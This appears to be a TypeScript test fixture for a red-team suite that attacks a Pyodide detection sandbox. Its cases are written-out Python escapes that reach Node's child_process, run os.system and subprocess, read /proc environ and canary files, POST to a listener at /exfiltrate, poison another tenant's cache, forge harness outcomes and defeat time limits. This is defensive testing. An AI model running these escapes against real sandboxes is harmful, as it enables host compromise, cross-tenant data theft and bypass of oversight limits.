/**
 * The escapes of the red-team suite, one row each: what it tries to reach and
 * the Python (after the prelude of redteam-python.ts: rt_attempt notes each
 * step, rt_report ends the run with a rule error carrying every note,
 * rt_escape_with runs the JavaScript payload from any JavaScript object,
 * rt_nodefs mounts host folders, rt_stall / rt_hog outrun the limits).
 *
 * kind:
 * - escape: tries to reach the host, another tenant or the network; judged on evidence;
 * - limit: tries to outrun the time or memory limit (every stall is bounded:
 *   surviving it leaves "STALL-SURVIVED" in the outcome and a late answer);
 * - patch: monkeypatches the harness or Python itself.
 * For limit and patch, the bystander tenant is evaluated while the escape runs.
 */
export type CaseKind = 'escape' | 'limit' | 'patch';

export interface EscapeCase {
  /** Also the tenant id's suffix: [a-z0-9-]. */
  name: string;
  group: string;
  /** What it tries to reach, and how. */
  tries: string;
  python: string;
  kind: CaseKind;
  /**
   * rule-error (default): every event gets a rule error of the escape's rule
   * (all escapes end in rt_report or an error). any: a rule error or a normal
   * outcome (a match, or nothing), whichever, as long as it comes in time.
   */
  expect?: 'rule-error' | 'any';
  /** Patch cases: the tenant is evaluated again, to see that its next batch is answered too. */
  secondBatch?: boolean;
  /** How the detection is run: the streaming engine (default) or DetectionService.TestDetection's path. */
  route?: 'engine' | 'test-detection-events' | 'test-detection-tests';
}

/** The red team's own escape, verbatim. */
export const REDTEAM_ORIGINAL = String.raw`
import gc
def rule(event):
    finder = [o for o in gc.get_objects() if type(o).__name__ == "JsFinder"][0]
    Function = finder.jsproxies["pyodide_js"].constructor.constructor
    raise Exception(Function("return process.getBuiltinModule('child_process').execSync('id').toString()")())
`;

/** The same foothold, then everything the JavaScript payload does (canaries, markers, spawn, network, caches). */
export const GC_JSFINDER_PAYLOAD = String.raw`
def rule(event):
    rt_escape_with(rt_pyodide_js())
    rt_report()
`;

export const ESCAPE_CASES: EscapeCase[] = [
  // ---- reaching JavaScript (the host runtime) ----
  {
    name: 'redteam-original',
    group: 'JavaScript',
    tries: "the red team's escape verbatim: gc → JsFinder.jsproxies['pyodide_js'].constructor.constructor (Function) → child_process `id`",
    kind: 'escape',
    python: REDTEAM_ORIGINAL,
  },
  {
    name: 'gc-jsfinder-payload',
    group: 'JavaScript',
    tries: 'the same gc/JsFinder foothold, then the full payload: read both canary files and the canary variable, write a marker, spawn `id` and `touch`, read /proc environments, connect to the listener, forge cache requests',
    kind: 'escape',
    python: GC_JSFINDER_PAYLOAD,
  },
  {
    name: 'gc-any-jsproxy',
    group: 'JavaScript',
    tries: "every JsProxy the garbage collector knows (and every JsFinder's jsproxies, `js` included): the first whose .constructor.constructor answers runs the payload",
    kind: 'escape',
    python: String.raw`
def rule(event):
    proxies = [o for o in rt_gc.get_objects() if any(t.__name__ == "JsProxy" for t in type(o).__mro__)]
    for finder in [o for o in rt_gc.get_objects() if type(o).__name__ == "JsFinder"]:
        proxies.extend(finder.jsproxies.values())
    rt_note("proxies", len(proxies))
    for proxy in proxies:
        ctor = rt_try(lambda: proxy.constructor.constructor)
        if ctor is not None and not isinstance(ctor, str):
            rt_note("foothold", rt_try(lambda: str(proxy)[:80]))
            rt_escape_with(proxy)
            break
    rt_report()
`,
  },
  {
    name: 'gc-pyodide-modules',
    group: 'JavaScript',
    tries: 'module objects dropped from sys.modules but alive in gc: pyodide.ffi.to_js / _pyodide_core.to_js (a JS Map → Function) and pyodide.code.run_js',
    kind: 'escape',
    python: String.raw`
def rule(event):
    modules = rt_modules()
    rt_note("alive", sorted(n for n in modules if "pyodide" in n or n in ("js", "pyodide_js")))
    code = modules.get("pyodide.code")
    if code is not None:
        rt_attempt("run_js", lambda: code.run_js(RT["jsExpression"]))
    for name in ("pyodide.ffi", "_pyodide_core"):
        module = modules.get(name)
        if module is not None:
            obj = rt_attempt(name + ".to_js", lambda: module.to_js({"x": 1}))
            if obj is not None:
                rt_escape_with(obj)
                break
    rt_report()
`,
  },
  {
    name: 'subclasses-walk',
    group: 'JavaScript',
    tries: "object.__subclasses__() walk: JsFinder class → find_spec.__globals__['jsfinder'] → pyodide_js; _io.FileIO on the canary files; BuiltinImporter for _pyodide_core",
    kind: 'escape',
    python: String.raw`
def rule(event):
    def walk(cls, seen):
        for sub in type.__subclasses__(cls):
            if sub not in seen:
                seen.add(sub)
                walk(sub, seen)
        return seen
    classes = {c.__name__: c for c in walk(object, set())}
    rt_note("classes", len(classes))
    finder_class = classes.get("JsFinder")
    if finder_class is not None:
        found = finder_class.find_spec.__globals__.get("jsfinder")
        rt_note("importhook-jsfinder", found)
        if found is not None:
            rt_escape_with(found.jsproxies["pyodide_js"])
    fileio = classes.get("FileIO")
    for label, path in RT["canaryFiles"].items():
        rt_attempt("fileio-" + label, lambda: fileio(path).read().decode())
    importer = classes.get("BuiltinImporter")
    rt_attempt("builtin-spec", lambda: importer.find_spec("_pyodide_core"))
    rt_report()
`,
  },
  {
    name: 'builtin-importer-pyodide-core',
    group: 'JavaScript',
    tries: 're-import the built-in _pyodide_core past the blocker: BuiltinImporter.find_spec + importlib._bootstrap._load (else _imp.create_builtin), then to_js → Function',
    kind: 'escape',
    python: String.raw`
import importlib._bootstrap as bootstrap
import importlib.machinery

def rule(event):
    spec = importlib.machinery.BuiltinImporter.find_spec("_pyodide_core")
    rt_note("spec", spec)
    core = rt_attempt("_bootstrap._load", lambda: bootstrap._load(spec))
    if core is None:
        import _imp
        core = rt_attempt("_imp.create_builtin", lambda: _imp.create_builtin(spec))
    if core is not None:
        obj = rt_attempt("to_js", lambda: core.to_js({"x": 1}))
        if obj is not None:
            rt_escape_with(obj)
    rt_report()
`,
  },
  {
    name: 'meta-path-remove-blocker',
    group: 'JavaScript',
    tries: 'remove the import blocker from sys.meta_path, `import _pyodide_core`, forget and re-import pyodide.ffi → to_js → Function',
    kind: 'escape',
    python: String.raw`
import importlib
import sys

def rule(event):
    sys.meta_path[:] = [f for f in sys.meta_path if "Blocker" not in type(f).__name__]
    rt_note("meta_path", [type(f).__name__ for f in sys.meta_path])
    # The built-in first: pyodide.ffi only binds the real to_js when _pyodide_core is loaded.
    core = rt_attempt("import _pyodide_core", lambda: importlib.import_module("_pyodide_core"))
    for name in [n for n in list(sys.modules) if n.startswith("pyodide")]:
        del sys.modules[name]
    ffi = rt_attempt("import pyodide.ffi", lambda: importlib.import_module("pyodide.ffi"))
    for module in (ffi, core):
        obj = rt_attempt("to_js", lambda: module.to_js({"x": 1})) if module is not None else None
        if type(obj).__name__ == "JsProxy":
            rt_escape_with(obj)
            break
    rt_report()
`,
  },
  {
    name: 'meta-path-reinstall-jsfinder',
    group: 'JavaScript',
    tries: "remove the blocker and put Pyodide's own JsFinder (found by gc) back first on sys.meta_path: `import pyodide_js`, `import js`",
    kind: 'escape',
    python: String.raw`
import importlib
import sys

def rule(event):
    sys.meta_path[:] = [f for f in sys.meta_path if "Blocker" not in type(f).__name__]
    sys.meta_path.insert(0, rt_js_finder())
    rt_attempt("import js", lambda: importlib.import_module("js"))
    pyodide_js = rt_attempt("import pyodide_js", lambda: importlib.import_module("pyodide_js"))
    if pyodide_js is not None:
        rt_escape_with(pyodide_js)
    rt_report()
`,
  },
  {
    name: 'sys-modules-plant',
    group: 'JavaScript',
    tries: 'plant the gc-found pyodide_js proxy and pyodide modules in sys.modules so that `import` returns them without consulting any finder',
    kind: 'escape',
    python: String.raw`
import importlib
import sys

def rule(event):
    sys.modules["pyodide_js"] = rt_pyodide_js()
    for name, module in rt_modules().items():
        if name.startswith(("pyodide", "_pyodide")):
            sys.modules[name] = module
    planted = rt_attempt("import pyodide_js", lambda: importlib.import_module("pyodide_js"))
    if planted is not None:
        rt_escape_with(planted)
    ffi = rt_attempt("import pyodide.ffi", lambda: importlib.import_module("pyodide.ffi"))
    if ffi is not None:
        obj = rt_attempt("to_js", lambda: ffi.to_js({"x": 1}))
        if obj is not None:
            rt_escape_with(obj)
    rt_report()
`,
  },
  {
    name: 'patch-import-blocker',
    group: 'JavaScript',
    tries: "monkeypatch the harness's blocker: empty _caracal.sandbox.BLOCKED_ROOTS, replace HostModuleBlocker.find_spec, then import _pyodide_core / pyodide.ffi",
    kind: 'escape',
    python: String.raw`
import importlib
import sys

def rule(event):
    sandbox = rt_attempt("import _caracal.sandbox", lambda: importlib.import_module("_caracal.sandbox"))
    if sandbox is not None:
        rt_attempt("empty BLOCKED_ROOTS", lambda: setattr(sandbox, "BLOCKED_ROOTS", frozenset()))
    for finder in [f for f in sys.meta_path if "Blocker" in type(f).__name__]:
        rt_attempt("patch find_spec", lambda: setattr(type(finder), "find_spec", lambda self, *a, **k: None))
    for name in ("_pyodide_core", "pyodide.ffi"):
        sys.modules.pop(name, None)
        module = rt_attempt("import " + name, lambda: importlib.import_module(name))
        if module is not None:
            obj = rt_attempt("to_js", lambda: module.to_js({"x": 1}))
            if obj is not None:
                rt_escape_with(obj)
                break
    rt_report()
`,
  },
  {
    name: 'zipimport-pyodide-package',
    group: 'JavaScript',
    tries: "load the pyodide package's source straight from the stdlib zip with zipimport (no finder consulted), then use its ffi",
    kind: 'escape',
    python: String.raw`
import importlib.util
import sys
import zipimport

def rule(event):
    archives = [p for p in sys.path if p.endswith(".zip")]
    rt_note("archives", archives)
    def load(name):
        importer = zipimport.zipimporter(archives[0])
        spec = importer.find_spec(name)
        module = importlib.util.module_from_spec(spec)
        sys.modules[name] = module
        spec.loader.exec_module(module)
        return module
    rt_attempt("zipimport pyodide", lambda: load("pyodide"))
    ffi = rt_attempt("zipimport pyodide.ffi", lambda: load("pyodide.ffi"))
    if ffi is not None:
        obj = rt_attempt("to_js", lambda: ffi.to_js({"x": 1}))
        if obj is not None:
            rt_escape_with(obj)
    rt_report()
`,
  },
  {
    name: 'host-hook-new',
    group: 'JavaScript',
    tries: "the host's supervision hook (_caracal.supervision._verdict, a guarded JS function the signal handler asks): JsProxy.new() constructs a plain JS object → .constructor.constructor (Function)",
    kind: 'escape',
    python: String.raw`
import importlib

def rule(event):
    supervision = importlib.import_module("_caracal.supervision")
    for name in ("_verdict",):
        hook = getattr(supervision, name, None)
        rt_note(name, type(hook).__name__)
        obj = rt_attempt(name + ".new()", lambda: hook.new())
        if obj is not None:
            rt_escape_with(obj)
            break
    rt_report()
`,
  },
  {
    name: 'kv-hook-new',
    group: 'JavaScript',
    tries: "the host's cache hook behind panther_detection_helpers.caching (kv_store.active_store()._call): .new() → plain object → Function",
    kind: 'escape',
    python: String.raw`
import importlib

def rule(event):
    kv_store = importlib.import_module("_caracal.kv_store")
    call = getattr(kv_store.active_store(), "_call", None)
    rt_note("kv hook", type(call).__name__)
    obj = rt_attempt("_call.new()", lambda: call.new())
    if obj is not None:
        rt_escape_with(obj)
    rt_report()
`,
  },
  {
    name: 'frame-walk-host-hooks',
    group: 'JavaScript',
    tries: "walk sys._getframe().f_back… up through the harness's frames; in each frame's f_globals/f_locals look for the host's hooks, then .new() → Function",
    kind: 'escape',
    python: String.raw`
import sys

def rule(event):
    frame, depth, hooks = sys._getframe(), 0, []
    while frame is not None:
        depth += 1
        for value in list(frame.f_globals.values()) + list(frame.f_locals.values()):
            for name in ("_verdict", "_call"):
                hook = rt_try(lambda: getattr(value, name, None))
                if type(hook).__name__ == "JsProxy" and all(hook is not h for h in hooks):
                    hooks.append(hook)
        frame = frame.f_back
    rt_note("frames", depth)
    rt_note("hooks", len(hooks))
    for hook in hooks:
        obj = rt_attempt("new", lambda: hook.new())
        if obj is not None:
            rt_escape_with(obj)
            break
    rt_report()
`,
  },
  {
    name: 'exec-in-harness-namespace',
    group: 'JavaScript',
    tries: "compile/exec/eval and types.FunctionType over the harness module's own globals (_caracal.supervision.__dict__) to use its host hooks",
    kind: 'escape',
    python: String.raw`
import sys
import types

def rule(event):
    namespace = sys.modules["_caracal.supervision"].__dict__
    code = compile("rt_result = _verdict.new()", "<red-team>", "exec")
    rt_attempt("exec", lambda: exec(code, namespace))
    obj = namespace.pop("rt_result", None)
    if obj is None:
        obj = rt_attempt("eval", lambda: eval("_verdict.new()", namespace))
    if obj is None:
        function = types.FunctionType(compile("_verdict.new()", "<red-team>", "eval"), namespace)
        obj = rt_attempt("FunctionType", function)
    if obj is not None:
        rt_escape_with(obj)
    rt_report()
`,
  },
  {
    name: 'bytecode-out-of-bounds',
    group: 'JavaScript',
    tries: 'a hand-made code object (code.replace(co_code=…)) whose LOAD_CONST reads past co_consts: arbitrary objects of the interpreter heap (a hidden JsProxy?), or a crash the host must survive',
    kind: 'escape',
    python: String.raw`
import dis
import types

def rule(event):
    op = dis.opmap
    def template():
        return None
    raw = bytes([op["RESUME"], 0, op["LOAD_CONST"], 200, op["RETURN_VALUE"], 0])
    evil = template.__code__.replace(co_code=raw, co_consts=(None,), co_stacksize=2)
    leaked = rt_attempt("run", lambda: types.FunctionType(evil, {})())
    rt_note("leaked", rt_try(lambda: type(leaked).__name__))
    if type(leaked).__name__ == "JsProxy":
        rt_escape_with(leaked)
    rt_report()
`,
  },
  {
    name: 'ctypes-emscripten',
    group: 'JavaScript',
    tries: "ctypes on the interpreter's own exports: libc system() (touch a marker), then emscripten_run_script_string with the JavaScript payload (eval in the module scope)",
    kind: 'escape',
    python: String.raw`
import ctypes

def rule(event):
    lib = ctypes.CDLL(None)
    rt_attempt("system", lambda: lib.system(("touch " + RT["markerPrefix"] + "-ctypes-system").encode()))
    def run_script():
        script = lib.emscripten_run_script_string
        script.restype = ctypes.c_char_p
        return script(RT["jsExpression"].encode()).decode()
    rt_attempt("emscripten_run_script_string", run_script)
    rt_report()
`,
  },
  {
    name: 'nodefs-mount',
    group: 'host files',
    tries: "no eval needed: pyodide_js.mountNodeFS the canary's temp dir, the repo's canary folder and /proc, then read/write them from plain Python",
    kind: 'escape',
    python: String.raw`
def rule(event):
    rt_nodefs(rt_pyodide_js())
    rt_report()
`,
  },
  {
    name: 'escape-at-import',
    group: 'JavaScript',
    tries: 'the gc/JsFinder escape and the payload at module import (load_content), before any rule() run',
    kind: 'escape',
    python: String.raw`
AT_IMPORT = rt_try(lambda: rt_host_js(rt_pyodide_js()))

def rule(event):
    rt_note("at-import", AT_IMPORT)
    rt_report()
`,
  },

  // ---- processes ----
  {
    name: 'os-system',
    group: 'processes',
    tries: "os.system (Emscripten's system() runs a shell through Node's child_process): touch a marker, copy the canary, write `id` to a file",
    kind: 'escape',
    python: String.raw`
import os

def rule(event):
    prefix = RT["markerPrefix"]
    rt_attempt("touch", lambda: os.system("touch " + prefix + "-os-system"))
    rt_attempt("copy-canary", lambda: os.system("cp " + RT["canaryFiles"]["outside"] + " " + prefix + "-canary-copy"))
    rt_attempt("id", lambda: os.system("id > " + prefix + "-id"))
    rt_report()
`,
  },
  {
    name: 'subprocess-popen',
    group: 'processes',
    tries: 'os.popen("id"), subprocess.run(["touch", marker]), subprocess.check_output(["cat", canary])',
    kind: 'escape',
    python: String.raw`
import os
import subprocess

def rule(event):
    rt_attempt("popen id", lambda: os.popen("id").read())
    rt_attempt("run touch", lambda: subprocess.run(["touch", RT["markerPrefix"] + "-subprocess"], timeout=5).returncode)
    rt_attempt("cat canary", lambda: subprocess.check_output(["cat", RT["canaryFiles"]["outside"]], timeout=5).decode())
    rt_report()
`,
  },
  {
    name: 'fork-spawn-exec',
    group: 'processes',
    tries: 'os.fork, os.posix_spawn, os.spawnv, multiprocessing.Process, os.execv of /usr/bin/touch on a marker',
    kind: 'escape',
    python: String.raw`
import os

def rule(event):
    touch = ["touch", RT["markerPrefix"] + "-spawn"]
    rt_attempt("fork", lambda: os.fork())
    rt_attempt("posix_spawn", lambda: os.posix_spawn("/usr/bin/touch", touch, {}))
    rt_attempt("spawnv", lambda: os.spawnv(os.P_WAIT, "/usr/bin/touch", touch))
    def child():
        import multiprocessing
        process = multiprocessing.Process(target=print)
        process.start()
        return process.pid
    rt_attempt("multiprocessing", child)
    rt_attempt("execv", lambda: os.execv("/usr/bin/touch", touch))
    rt_report()
`,
  },

  // ---- host files and environment from plain Python ----
  {
    name: 'python-host-files',
    group: 'host files',
    tries: "open() the canary files, list the host temp dir and /, write a marker with open() (Pyodide's file system is in memory: the host must see nothing)",
    kind: 'escape',
    python: String.raw`
import os

def rule(event):
    for label, path in RT["canaryFiles"].items():
        rt_attempt("open " + label, lambda: rt_peek(path))
    rt_attempt("listdir hostDir", lambda: os.listdir(RT["hostDir"]))
    rt_attempt("listdir /", lambda: sorted(os.listdir("/")))
    def write():
        os.makedirs(RT["caseDir"], exist_ok=True)
        with open(RT["markerPrefix"] + "-python-open", "w") as handle:
            handle.write("written with open()")
        return "written (somewhere)"
    rt_attempt("write marker", write)
    rt_report()
`,
  },
  {
    name: 'proc-and-environ',
    group: 'host files',
    tries: "os.environ / os.getenv for the canary variable; /proc/self/environ, /proc/<parent>/environ, /proc/1/environ, /proc/1/cmdline, /proc/self/cmdline",
    kind: 'escape',
    python: String.raw`
import os

def rule(event):
    rt_attempt("os.environ", lambda: os.environ.get(RT["envName"]))
    rt_attempt("os.getenv", lambda: os.getenv(RT["envName"]))
    rt_attempt("environ keys", lambda: sorted(os.environ))
    for path in ("/proc/self/environ", "/proc/%d/environ" % os.getppid(), "/proc/1/environ", "/proc/1/cmdline", "/proc/self/cmdline"):
        rt_attempt(path, lambda: rt_peek(path))
    rt_report()
`,
  },

  // ---- network ----
  {
    name: 'socket-connect',
    group: 'network',
    tries: "socket.create_connection to the test's listener on 127.0.0.1 and send; a raw non-blocking connect_ex",
    kind: 'escape',
    python: String.raw`
import socket

def rule(event):
    def connect():
        conn = socket.create_connection(("127.0.0.1", RT["port"]), timeout=2)
        conn.sendall(b"escaped")
        return "connected"
    rt_attempt("create_connection", connect)
    def raw():
        conn = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        conn.setblocking(False)
        return conn.connect_ex(("127.0.0.1", RT["port"]))
    rt_attempt("connect_ex", raw)
    rt_report()
`,
  },
  {
    name: 'urllib-http-client',
    group: 'network',
    tries: 'urllib.request.urlopen and http.client POST to the listener',
    kind: 'escape',
    python: String.raw`
import http.client
import urllib.request

def rule(event):
    rt_attempt("urlopen", lambda: urllib.request.urlopen("http://127.0.0.1:%d/exfiltrate" % RT["port"], timeout=2).status)
    def post():
        conn = http.client.HTTPConnection("127.0.0.1", RT["port"], timeout=2)
        conn.request("POST", "/exfiltrate", body=b"data")
        return conn.getresponse().status
    rt_attempt("http.client", post)
    rt_report()
`,
  },

  {
    name: 'pyodide-api-network',
    group: 'network',
    tries: "Pyodide's own API without eval (pyodide_js from gc): loadPackage of a wheel URL on the listener, and a socket through the Emscripten module's SOCKFS",
    kind: 'escape',
    python: String.raw`
import socket

def rule(event):
    pyodide_js = rt_pyodide_js()
    url = "http://127.0.0.1:%d/exfiltrate-0.1-py3-none-any.whl" % RT["port"]
    rt_attempt("loadPackage", lambda: pyodide_js.loadPackage(url))
    rt_attempt("SOCKFS", lambda: pyodide_js._module.SOCKFS)
    def connect():
        conn = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        conn.settimeout(2)
        conn.connect(("127.0.0.1", RT["port"]))
        return "connected"
    rt_attempt("socket", connect)
    rt_report()
`,
  },

  // ---- other tenants' caches ----
  {
    name: 'cache-other-tenant',
    group: 'tenants',
    tries: "read and overwrite the bystander tenant's cache key through caching: the plain key, keys with the other tenant's id (NUL, ':', '../', the Redis key layout), and a raw bridge request naming the other tenant",
    kind: 'escape',
    python: String.raw`
import importlib
import json
from panther_detection_helpers import caching

def rule(event):
    other, key = RT["otherTenant"], RT["otherKey"]
    keys = [key, other + "\x00" + key, other + ":" + key, "../" + other + "/" + key, "caracal:kv:" + other + ":" + key, other + "/" + key]
    for candidate in keys:
        rt_attempt("get " + repr(candidate), lambda: caching.get_dictionary(candidate))
    kv_store = importlib.import_module("_caracal.kv_store")
    call = kv_store.active_store()._call
    forged = json.dumps({"op": "get_dictionary", "key": key, "tenantId": other, "tenant": other})
    rt_attempt("raw bridge, other tenant named", lambda: call(forged))
    for candidate in keys:
        rt_attempt("put " + repr(candidate), lambda: caching.put_dictionary(candidate, {"v": "poisoned by " + RT["tenant"]}))
    rt_report()
`,
  },

  // ---- monkeypatching the harness and Python ----
  {
    name: 'patch-json-dumps',
    group: 'monkeypatch',
    tries: "json.dumps = lambda *a, **k: '\"x\"' (what the harness serialises outcomes with)",
    kind: 'patch',
    secondBatch: true,
    python: String.raw`
import json

def rule(event):
    json.dumps = lambda *args, **kwargs: '"x"'
    raise Exception("tenant patched json.dumps")
`,
  },
  {
    name: 'patch-json-false-loads',
    group: 'monkeypatch',
    tries: 'json.dumps returning False and json.loads returning [] (what the harness reads batches with)',
    kind: 'patch',
    secondBatch: true,
    python: String.raw`
import json

def rule(event):
    json.dumps = lambda *args, **kwargs: False
    json.loads = lambda *args, **kwargs: []
    raise Exception("tenant patched json.dumps and json.loads")
`,
  },
  {
    name: 'patch-json-encoder-class',
    group: 'monkeypatch',
    tries: 'json.JSONEncoder.iterencode / .encode and json.encoder.c_make_encoder: the class behind an encoder the harness bound early',
    kind: 'patch',
    secondBatch: true,
    python: String.raw`
import json
import json.encoder

def rule(event):
    json.JSONEncoder.iterencode = lambda self, o, _one_shot=False: iter(['"x"'])
    json.JSONEncoder.encode = lambda self, o: '"x"'
    json.encoder.c_make_encoder = None
    raise Exception("tenant patched json.JSONEncoder")
`,
  },
  {
    name: 'patch-builtins',
    group: 'monkeypatch',
    tries: 'builtins.isinstance / len / str replaced for the whole interpreter',
    kind: 'patch',
    secondBatch: true,
    python: String.raw`
import builtins

def rule(event):
    builtins.isinstance = lambda *args: False
    builtins.len = lambda *args: 0
    builtins.str = lambda *args, **kwargs: "x"
    raise Exception("tenant patched builtins")
`,
  },
  {
    name: 'patch-harness-functions',
    group: 'monkeypatch',
    tries: "replace _caracal.failures.describe and _caracal.harness.dumps: the batch's answer becomes forged outcomes, one naming another tenant (tenantId) and one a rule the tenant does not have",
    kind: 'patch',
    expect: 'any',
    secondBatch: true,
    python: String.raw`
import json
import sys

def rule(event):
    failures = sys.modules["_caracal.failures"]
    harness = sys.modules["_caracal.harness"]
    failures.describe = lambda exc: {"errorType": "Forged", "message": "forged", "traceback": ""}
    forged = {
        "kind": "match", "ruleId": "RedTeam.Escape", "eventIndex": 0, "title": "forged", "dedup": "forged",
        "severity": "CRITICAL", "alertContext": {}, "description": "", "reference": "", "runbook": "",
        "destinations": None, "auxErrors": [], "tenantId": RT["otherTenant"], "matchedAtMs": 0,
    }
    answer = json.dumps({"outcomes": [forged, dict(forged, ruleId="Forged.Rule")], "ruleSeconds": {}})
    harness.dumps = lambda value: answer
    raise Exception("tenant patched the harness")
`,
  },

  // ---- time and memory limits ----
  {
    name: 'patch-supervision-state',
    group: 'limits',
    tries: "disarm the harness's supervision: WHERE rebound and zeroed (no run for the host to see), begin/end/_verdict replaced, SIGUSR1 ignored; then spin",
    kind: 'limit',
    python: String.raw`
import signal
import sys

def rule(event):
    supervision = sys.modules["_caracal.supervision"]
    supervision.WHERE[0] = 0
    supervision.WHERE = supervision.array("q", [0])
    supervision.begin = lambda *args: None
    supervision.end = lambda: None
    supervision._verdict = lambda: 0
    rt_attempt("SIG_IGN", lambda: signal.signal(signal.SIGUSR1, signal.SIG_IGN))
    rt_stall()
`,
  },
  {
    name: 'signal-handler-replaced',
    group: 'limits',
    tries: "signal.signal(SIGUSR1, handler that does nothing): the time limit's signal no longer raises; then spin",
    kind: 'limit',
    python: String.raw`
import signal

def rule(event):
    signal.signal(signal.SIGUSR1, lambda signum, frame: None)
    rt_stall()
`,
  },
  {
    name: 'swallow-baseexception',
    group: 'limits',
    tries: 'spin inside `except BaseException: pass`, swallowing every DetectionTimeout',
    kind: 'limit',
    python: String.raw`
import time

def rule(event):
    deadline = time.monotonic() + RT["stallSeconds"]
    while time.monotonic() < deadline:
        try:
            while time.monotonic() < deadline:
                pass
        except BaseException:
            pass
    raise Exception("STALL-SURVIVED: swallowed every interrupt for %d s" % RT["stallSeconds"])
`,
  },
  {
    name: 'progress-hook-reset',
    group: 'limits',
    tries: "write a new run into the word the host reads (supervision.WHERE) every 250 ms while spinning, alternating two rules: each looks like a new run, so a run's clock never reaches the limit",
    kind: 'limit',
    python: String.raw`
import sys
import time

def rule(event):
    supervision = sys.modules["_caracal.supervision"]
    where = supervision.WHERE
    last = [time.monotonic(), 0]
    def tick():
        now = time.monotonic()
        if now - last[0] > 0.25:
            last[0] = now
            last[1] = 1 - last[1]
            where[0] = supervision.run_token(0, last[1])
    rt_stall(tick)
`,
  },
  {
    name: 'spin-outside-supervision',
    group: 'limits',
    tries: "severity() returns a str subclass whose upper() is a dict subclass equal to every severity: it passes the check, and its spinning items() runs when the harness serialises the batch, after the run's supervision ended",
    kind: 'limit',
    expect: 'any',
    python: String.raw`
class Spins(dict):
    def __eq__(self, other):
        return other != "DEFAULT"

    def items(self):
        rt_stall()
        return super().items()


class Severity(str):
    def strip(self, *args):
        return self

    def upper(self):
        return Spins(spun="yes")


def rule(event):
    return True


def severity(event):
    return Severity("HIGH")
`,
  },
  {
    name: 'time-sleep',
    group: 'limits',
    tries: 'time.sleep past the limit (a wait outside the bytecode loop)',
    kind: 'limit',
    python: String.raw`
import time

def rule(event):
    time.sleep(RT["stallSeconds"])
    raise Exception("STALL-SURVIVED: slept %d s" % RT["stallSeconds"])
`,
  },
  {
    name: 'stdin-read',
    group: 'limits',
    tries: "block in sys.stdin.read (in a detection host, the parent's pipe): steal its frames or stall outside Python",
    kind: 'limit',
    python: String.raw`
import sys

def rule(event):
    data = sys.stdin.buffer.read(64)
    rt_note("stdin bytes", len(data))
    rt_report()
`,
  },
  {
    name: 'threads',
    group: 'limits',
    tries: 'threading.Thread, _thread.start_new_thread, ThreadPoolExecutor running a spin that would outlive the run',
    kind: 'limit',
    python: String.raw`
import _thread
import threading

def rule(event):
    rt_attempt("threading", lambda: threading.Thread(target=rt_stall, daemon=True).start())
    rt_attempt("_thread", lambda: _thread.start_new_thread(rt_stall, ()))
    def executor():
        from concurrent.futures import ThreadPoolExecutor
        return ThreadPoolExecutor(1).submit(rt_stall).result(timeout=1)
    rt_attempt("ThreadPoolExecutor", executor)
    rt_report()
`,
  },
  {
    name: 'recursion-bomb',
    group: 'limits',
    tries: 'unbounded recursion at the default recursion limit',
    kind: 'limit',
    python: String.raw`
def rule(event):
    def down(n):
        return down(n + 1) + 1
    return down(0)
`,
  },
  {
    name: 'setrecursionlimit-bomb',
    group: 'limits',
    tries: 'sys.setrecursionlimit(10**7), then unbounded recursion: the C/wasm stack instead of RecursionError',
    kind: 'limit',
    python: String.raw`
import sys

def rule(event):
    sys.setrecursionlimit(10**7)
    def down(n):
        return down(n + 1) + 1
    return down(0)
`,
  },
  {
    name: 'memory-bomb',
    group: 'limits',
    tries: 'hold 8 MB bytearrays until well past the memory limit',
    kind: 'limit',
    python: String.raw`
def rule(event):
    rt_hog()
`,
  },
  {
    name: 'regex-catastrophic',
    group: 'limits',
    tries: 'catastrophic backtracking in re ((a+)+$ on 64 a then b): a C loop, not bytecodes',
    kind: 'limit',
    python: String.raw`
import re

def rule(event):
    return re.match(r"(a+)+$", "a" * 64 + "b") is not None
`,
  },

  // ---- the API's TestDetection path ----
  {
    name: 'test-detection-events',
    group: 'TestDetection',
    tries: "the gc/JsFinder escape and payload through testDetection with events (DetectionService.TestDetection's path: fresh processes)",
    kind: 'escape',
    route: 'test-detection-events',
    python: GC_JSFINDER_PAYLOAD,
  },
  {
    name: 'test-detection-tests',
    group: 'TestDetection',
    tries: "the same through the rule's own YAML Tests (TestDetection without events)",
    kind: 'escape',
    route: 'test-detection-tests',
    python: GC_JSFINDER_PAYLOAD,
  },
];
